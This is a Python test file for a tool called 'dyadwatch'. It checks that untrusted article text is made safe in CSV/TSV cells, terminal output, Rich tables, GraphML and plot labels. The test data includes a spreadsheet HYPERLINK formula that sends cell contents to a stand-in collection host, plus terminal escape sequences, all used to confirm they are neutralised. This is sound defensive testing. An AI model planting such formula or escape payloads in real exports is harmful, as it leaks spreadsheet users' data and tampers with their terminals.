"""Untrusted text stays text: terminal tables, CSV/TSV cells, GraphML and chart labels."""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner

from dyadwatch import api
from dyadwatch.cli import cli
from dyadwatch.safe_output import (
    plot_label,
    spreadsheet_cell,
    spreadsheet_frame,
    table_cell,
    terminal_text,
    tsv_cell,
    xml_graph,
)

TRAP_TITLE = '=HYPERLINK("http://collect.example/?d="&A1,"Click for the full report")'


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", TRAP_TITLE])
def test_output_formula_starts_are_neutralised(cell: str):
    safe = spreadsheet_cell(cell)
    assert safe == "'" + cell


@pytest.mark.parametrize("value", ["Talks in Baku", "", -4.0, 7, None, "a=b", " =leading space"])
def test_output_ordinary_cells_are_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_output_tsv_cells_cannot_shift_columns_or_rows():
    assert tsv_cell("one\ttwo\nthree") == "one two three"
    assert tsv_cell("-1 in a row") == "'-1 in a row"


def test_output_terminal_text_drops_escape_sequences_and_reordering_controls():
    shown = terminal_text("Calm\x1b]0;owned\x07 title\x1b[2J\x1b[31m red\u202e\u2066 end\x00")
    assert "\x1b" not in shown and "owned" not in shown and "\u202e" not in shown and "\x00" not in shown
    assert shown.startswith("Calm") and "title" in shown and "red" in shown and shown.endswith("end\ufffd")
    assert terminal_text("two\nlines", keep_newlines=True) == "two\nlines"
    assert terminal_text("two\nlines") == "two lines"


def test_output_table_cell_is_not_markup():
    from rich.console import Console
    from rich.table import Table

    table = Table()
    table.add_column("quote")
    table.add_row(table_cell("He said [/b] and [bold red]nothing[/] more"))
    console = Console(file=io.StringIO(), width=120, color_system=None)
    console.print(table)
    assert "[/b]" in console.file.getvalue() and "[bold red]" in console.file.getvalue()


def test_output_graphml_with_control_characters_stays_readable(tmp_path: Path):
    graph = nx.DiGraph()
    graph.add_node("A\x01", name='<b>"Baku" & co</b>\x0b')
    graph.add_edge("A\x01", "B", weight=2, label="x\x1f")
    out = tmp_path / "g.graphml"
    nx.write_graphml(xml_graph(graph), out)
    root = ET.parse(out).getroot()
    text = ET.tostring(root, encoding="unicode")
    assert "<b>" not in text and "&lt;b&gt;" in text
    assert nx.read_graphml(out).number_of_edges() == 1


def test_output_plot_label_is_literal_and_xml_safe():
    assert plot_label("cost $5 to $9\x02") == r"cost \$5 to \$9" + "\ufffd"


def test_output_frame_cells_neutralised_numbers_kept():
    import pandas as pd

    frame = spreadsheet_frame(pd.DataFrame({"title": ["=cmd", "ok"], "goldstein": [-5.0, 3.0]}))
    assert list(frame["title"]) == ["'=cmd", "ok"] and list(frame["goldstein"]) == [-5.0, 3.0]


@pytest.fixture(scope="module")
def trap_store(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("trap")
    page = folder / "trap.jsonl"
    import json

    text = ("The foreign ministers of Armenia and Azerbaijan met in Almaty on Monday, the ministry said. "
            "[/b] Russia criticised Azerbaijan over the crash, officials said.")
    page.write_text(json.dumps({"id": "trap-1", "title": TRAP_TITLE, "text": text, "published": "2025-01-06",
                                "outlet": "@Outlet\x1b[31m"}) + "\n", encoding="utf-8")
    db = folder / "t.duckdb"
    report = api.ingest([str(page)], db=db, link=False)
    assert report.written == 1
    return db


def test_output_csv_export_of_a_hyperlink_title_opens_as_text(trap_store: Path, tmp_path: Path):
    out = tmp_path / "articles.csv"
    res = CliRunner().invoke(cli, ["export", "--db", str(trap_store), "--format", "csv", "--table", "articles",
                                   "-o", str(out)])
    assert res.exit_code == 0, res.output
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"] == "'" + TRAP_TITLE
    assert rows[0]["outlet"].startswith("'@")
    raw = out.read_text(encoding="utf-8")
    # every field quoted, and no line of the file begins a formula
    assert all(line.startswith('"') for line in raw.splitlines())
    for row in rows:
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_output_terminal_listing_shows_markup_and_escapes_literally(trap_store: Path):
    res = CliRunner().invoke(cli, ["articles", "--db", str(trap_store)])
    assert res.exit_code == 0, res.output
    assert "\x1b" not in res.stdout and "HYPERLINK" in res.stdout
